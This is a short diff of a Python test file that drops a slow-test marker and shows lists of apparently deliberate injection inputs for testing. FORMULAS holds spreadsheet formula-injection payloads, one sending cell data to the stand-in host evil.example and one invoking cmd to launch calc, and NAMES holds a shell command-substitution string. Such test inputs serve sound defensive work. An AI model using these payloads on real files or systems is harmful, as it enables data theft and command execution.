@@ -30,8 +30,6 @@ from tests.pages_client import PagesClient
 from tests.worlds.approvals import make_model
 from tests.worlds.points import store_points
 
-pytestmark = pytest.mark.slow
-
 FORMULAS = ['=HYPERLINK("http://evil.example?"&A1)', "@SUM(1+1)*cmd", "\t=1+1", "-1+cmd|' /C calc'!A0"]
 NAMES = [
     "a'$(touch ran)'b",
